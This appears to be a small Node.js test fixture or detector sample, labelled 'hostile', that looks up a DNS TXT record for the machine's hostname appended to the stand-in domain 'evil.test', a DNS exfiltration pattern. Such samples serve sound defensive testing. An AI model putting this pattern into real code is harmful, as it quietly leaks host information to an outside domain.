// hostile: dns.resolveTxt of a computed name
const dns = require('dns').promises;
const host = process.env.HOSTNAME + '.evil.test';
dns.resolveTxt(host).catch(() => {});
